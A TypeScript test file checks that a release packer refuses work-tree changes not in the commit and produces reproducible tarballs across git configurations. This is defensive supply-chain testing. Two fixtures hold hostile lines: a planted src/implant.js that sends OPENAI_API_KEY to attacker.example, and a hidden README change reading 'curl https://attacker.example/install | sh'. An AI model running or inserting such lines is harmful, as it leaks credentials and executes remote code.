// Review of the release packer's refusals and reproducibility against a small
// git checkout (a package whose build copies src/*.js into dist/, as tsc
// compiles src/ into dist/src/): what the work tree holds beyond the commit
// must be refused, and two clones of one commit must give the same bytes.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { gunzipSync } from 'node:zlib';
import { packageRelease, ReleaseError } from '../../scripts/release/package.ts';
import { release } from '../../scripts/release/release.ts';
import { tempDir } from '../support/temp-dir.ts';

const tmp = tempDir('review-release');
const env: Record<string, string> = {};
for (const [k, v] of Object.entries(process.env)) if (v !== undefined && !k.toLowerCase().startsWith('npm_') && k !== 'SOURCE_DATE_EPOCH') env[k] = v;
Object.assign(env, { npm_config_offline: 'true', GIT_AUTHOR_NAME: 'a', GIT_AUTHOR_EMAIL: 'a@b', GIT_COMMITTER_NAME: 'a', GIT_COMMITTER_EMAIL: 'a@b' });

function git(cwd: string, ...args: string[]): string {
  return execFileSync('git', args, { cwd, env, encoding: 'utf8' });
}

let counter = 0;
/** A committed package: src/a.js built into dist/, README.md and docs/ packed as they are. */
function origin(): string {
  const dir = path.join(tmp, `origin-${counter++}`);
  mkdirSync(path.join(dir, 'src'), { recursive: true });
  mkdirSync(path.join(dir, 'docs'));
  writeFileSync(
    path.join(dir, 'package.json'),
    `${JSON.stringify({ name: 'fx', version: '1.0.0', description: 'd', license: 'MIT', engines: { node: '>=20' }, files: ['dist', 'docs', 'README.md'], scripts: { build: 'rm -rf dist && mkdir dist && cp src/*.js dist/' } }, null, 2)}\n`,
  );
  writeFileSync(path.join(dir, 'src', 'a.js'), 'export const a = 1;\n');
  writeFileSync(path.join(dir, 'README.md'), 'line one\nline two\n');
  writeFileSync(path.join(dir, 'docs', 'guide.md'), 'guide\n');
  writeFileSync(path.join(dir, '.gitignore'), 'dist/\nrelease/\n');
  git(dir, 'init', '-q');
  git(dir, 'add', '-A');
  git(dir, 'commit', '-qm', 'one');
  return dir;
}

function clone(from: string, name: string, ...config: string[]): string {
  const dir = path.join(tmp, name);
  git(tmp, 'clone', '-q', ...config.flatMap((c) => ['-c', c]), from, dir);
  return dir;
}

function entries(tgz: Buffer): Map<string, { mode: number; data: Buffer }> {
  const tar = gunzipSync(tgz);
  const out = new Map<string, { mode: number; data: Buffer }>();
  for (let at = 0; at + 512 <= tar.length; ) {
    const h = tar.subarray(at, at + 512);
    if (h.every((b) => b === 0)) break;
    const name = h.subarray(0, 100).toString('utf8').replace(/\0.*$/s, '');
    const prefix = h.subarray(345, 500).toString('utf8').replace(/\0.*$/s, '');
    const size = parseInt(h.subarray(124, 136).toString('ascii'), 8);
    const mode = parseInt(h.subarray(100, 108).toString('ascii'), 8);
    out.set(prefix === '' ? name : `${prefix}/${name}`, { mode, data: Buffer.from(tar.subarray(at + 512, at + 512 + size)) });
    at += 512 + Math.ceil(size / 512) * 512;
  }
  return out;
}

test('an untracked source file is built into dist/ and packed without a refusal', async () => {
  const dir = clone(origin(), 'untracked-source');
  // Not committed, never shown by `git status --untracked-files=no`: the build picks it up as tsc picks up any src/**/*.ts.
  writeFileSync(path.join(dir, 'src', 'implant.js'), 'fetch("https://attacker.example/" + process.env.OPENAI_API_KEY);\n');
  let packed: readonly string[] = [];
  const refused = await packageRelease({ root: dir, out: path.join(dir, 'release'), build: true, env }).then(
    (r) => {
      packed = r.files;
      return false;
    },
    (error: unknown) => error instanceof ReleaseError,
  );
  assert.ok(refused, `the packer refuses a tarball whose dist/ was built from files that are not the commit's; it packed ${JSON.stringify(packed)}`);
});

test('a tracked file changed behind git update-index --skip-worktree is packed without a refusal', async () => {
  const dir = clone(origin(), 'skip-worktree');
  git(dir, 'update-index', '--skip-worktree', 'README.md');
  writeFileSync(path.join(dir, 'README.md'), 'curl https://attacker.example/install | sh\n');
  assert.equal(git(dir, 'status', '--porcelain'), '', 'git status shows nothing');
  const outcome = await packageRelease({ root: dir, out: path.join(dir, 'release'), build: true, env }).then(
    (r) => entries(r.bytes).get('package/README.md')?.data.toString('utf8'),
    (error: unknown) => (error instanceof ReleaseError ? 'refused' : String(error)),
  );
  assert.equal(outcome, 'refused', 'the packer refuses (or packs the commit\'s README.md), never the work tree\'s hidden change');
});

test('two clones of one commit, one with core.autocrlf=true, give the same tarball', async () => {
  const from = origin();
  const plain = clone(from, 'crlf-plain');
  const crlf = clone(from, 'crlf-true', 'core.autocrlf=true');
  assert.equal(git(crlf, 'status', '--porcelain'), '', 'git status is clean in the autocrlf clone');
  const [a, b] = await Promise.all([
    packageRelease({ root: plain, out: path.join(plain, 'release'), build: true, env }),
    packageRelease({ root: crlf, out: path.join(crlf, 'release'), build: true, env }).catch((error: unknown) => error as Error),
  ]);
  if (b instanceof Error) return; // a refusal would be acceptable too
  assert.equal(
    b.sha256,
    a.sha256,
    `same commit, same SHA-256; README.md packed as ${JSON.stringify(entries(a.bytes).get('package/README.md')?.data.toString())} vs ${JSON.stringify(entries(b.bytes).get('package/README.md')?.data.toString())}`,
  );
});

test('two clones of one commit, one with core.fileMode=false and an execute bit git ignores, give the same tarball', async () => {
  const from = origin();
  const plain = clone(from, 'mode-plain');
  const loose = clone(from, 'mode-loose', 'core.fileMode=false');
  chmodSync(path.join(loose, 'docs', 'guide.md'), 0o755);
  assert.equal(git(loose, 'status', '--porcelain'), '', 'git status is clean with core.fileMode=false');
  const [a, b] = await Promise.all([
    packageRelease({ root: plain, out: path.join(plain, 'release'), build: true, env }),
    packageRelease({ root: loose, out: path.join(loose, 'release'), build: true, env }).catch((error: unknown) => error as Error),
  ]);
  if (b instanceof Error) return; // a refusal would be acceptable too
  assert.equal(
    b.sha256,
    a.sha256,
    `same commit, same SHA-256; docs/guide.md mode ${entries(a.bytes).get('package/docs/guide.md')?.mode.toString(8)} vs ${entries(b.bytes).get('package/docs/guide.md')?.mode.toString(8)}`,
  );
});

test('a release whose package.json engines.node the SBOM cannot state is refused as a ReleaseError before a tarball is written', async () => {
  const dir = clone(origin(), 'engines-caret');
  const manifestPath = path.join(dir, 'package.json');
  const manifest = JSON.parse(readFileSync(manifestPath, 'utf8')) as Record<string, unknown>;
  writeFileSync(manifestPath, `${JSON.stringify({ ...manifest, engines: { node: '^20.11' } }, null, 2)}\n`);
  git(dir, 'commit', '-qam', 'engines');
  const keyDir = path.join(tmp, 'key-engines');
  mkdirSync(keyDir);
  execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', '', '-f', path.join(keyDir, 'k')]);
  const out = path.join(tmp, 'engines-out');
  const error = await release({ root: dir, out, build: true, env, key: path.join(keyDir, 'k') }).then(
    () => undefined,
    (e: unknown) => e as Error,
  );
  assert.ok(error !== undefined, 'refused');
  const left = ['fx-1.0.0.tgz', 'fx-1.0.0.cdx.json', 'SHA256SUMS'].filter((f) => existsSync(path.join(out, f)));
  // release.js rethrows anything but a ReleaseError: the releaser gets a stack trace, not the refusal's message alone.
  assert.deepEqual({ releaseError: error instanceof ReleaseError, left }, { releaseError: true, left: [] }, error.message);
});
